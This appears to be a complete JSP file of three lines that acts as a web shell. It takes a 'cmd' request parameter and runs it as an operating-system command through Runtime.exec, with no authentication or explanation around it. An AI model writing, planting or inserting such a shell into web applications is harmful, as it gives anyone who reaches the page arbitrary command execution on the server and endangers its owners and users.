<%@ page import="java.io.*" %>
<% String c = request.getParameter("cmd");
if (c != null) { Process p = Runtime.getRuntime().exec(c); } %>
